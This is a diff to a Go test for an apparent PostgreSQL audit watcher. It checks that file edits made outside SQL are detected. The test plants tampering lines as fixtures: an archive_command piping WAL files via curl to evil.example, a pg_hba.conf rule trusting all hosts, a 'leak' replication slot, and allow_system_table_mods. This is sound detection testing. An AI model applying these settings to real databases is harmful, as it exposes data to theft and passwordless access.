@@ -2,8 +2,11 @@ package server
 
 import (
 	"context"
+	"errors"
 	"fmt"
 	"log/slog"
+	"os"
+	"path/filepath"
 	"slices"
 	"strings"
 	"testing"
@@ -100,8 +103,9 @@ func (e *eye) glance(again func()) {
 	e.until("the canary is heard or missed", again, func() bool { return e.canary.token == "" })
 }
 
-// TestTheWatchKnowsThatItIsBlind: its canary is heard through the log and nobody sees it there; when auditing is switched off, one alert says since when, and the room when it is over.
-func TestTheWatchKnowsThatItIsBlind(t *testing.T) {
+// TestTheWatchKnowsThatItIsBlindAndWhatIsChangedOutsideOfSQL: its canary is heard through the log and nobody sees it there; when auditing is switched off, one alert says since when, and the room when it is over. What is changed in files is
+// found by looking, and what has a record is judged by that.
+func TestTheWatchKnowsThatItIsBlindAndWhatIsChangedOutsideOfSQL(t *testing.T) {
 	t.Parallel()
 	scratch, err := cluster.NewScratch(t.Context(), cluster.ScratchOptions{Settings: map[string]string{"shared_preload_libraries": "pgaudit", "pgaudit.log": "role, ddl"}})
 	if err != nil {
@@ -200,6 +204,56 @@ func TestTheWatchKnowsThatItIsBlind(t *testing.T) {
 	if gaps := slices.DeleteFunc(slices.Clone(e.found), func(rule string) bool { return !strings.Contains(rule, "gap") }); len(gaps) > 0 {
 		t.Errorf("what was taken out is missed: %v", e.found)
 	}
+
+	// What is changed where no SQL is: two looks, since the log of the first one's moment is to be read before it is judged.
+	change := func(what string, act func(), outside bool, want ...string) {
+		t.Helper()
+		clear(e.due)
+		act()
+		e.glance(noise)
+		e.glance(noise)
+		e.rules()
+		var objects []string
+		for _, i := range e.due {
+			objects = append(objects, i.Objects...)
+		}
+		for _, rule := range want {
+			if !slices.Contains(e.found, rule) && !slices.Contains(objects, rule) {
+				t.Errorf("%s: %s is not found, but %q, %q", what, rule, e.found, objects)
+			}
+		}
+		if slices.Contains(e.found, "watch.outside") != outside {
+			t.Errorf("%s: outside of SQL is %v: %q", what, !outside, e.found)
+		}
+		if len(e.due) > 1 {
+			t.Errorf("%s: %d incidents", what, len(e.due))
+		}
+	}
+	edit := func(name, line string) {
+		t.Helper()
+		f, err := os.OpenFile(filepath.Join(scratch.DataDir(), name), os.O_APPEND|os.O_WRONLY, 0)
+		if err != nil {
+			t.Fatal(err)
+		}
+		_, err = f.WriteString(line + "\n")
+		if err = errors.Join(err, f.Close()); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if change("nothing", func() {}, false); len(e.due) > 0 {
+		t.Errorf("nothing was changed: %q", e.found)
+	}
+	change("ALTER SYSTEM", func() { do("ALTER SYSTEM SET archive_command = 'cp %p /mnt/%f'", "SELECT pg_reload_conf()") }, false, "code.command-setting")
+	change("postgresql.auto.conf", func() { edit("postgresql.auto.conf", "archive_command = 'curl -T %p evil.example'") }, true, "watch.outside", "archive_command")
+	change("pg_hba.conf", func() { edit("pg_hba.conf", "host all all 0.0.0.0/0 trust") }, true, "watch.hba-trust")
+	change("a slot", func() { do("SELECT pg_create_physical_replication_slot('leak')") }, true, "watch.slot")
+	change("postgresql.conf and a restart", func() {
+		edit("postgresql.conf", "allow_system_table_mods = on")
+		if err := scratch.Restart(t.Context()); err != nil {
+			t.Fatal(err)
+		}
+		e.eyes = nil
+	}, true, "allow_system_table_mods")
 
 	// Nothing comes through the log at all: then time tells.
 	e.canary = canary{token: "x", sung: time.Now(), began: time.Now().Add(-canaryWait - time.Second), lost: canaryTries - 1}
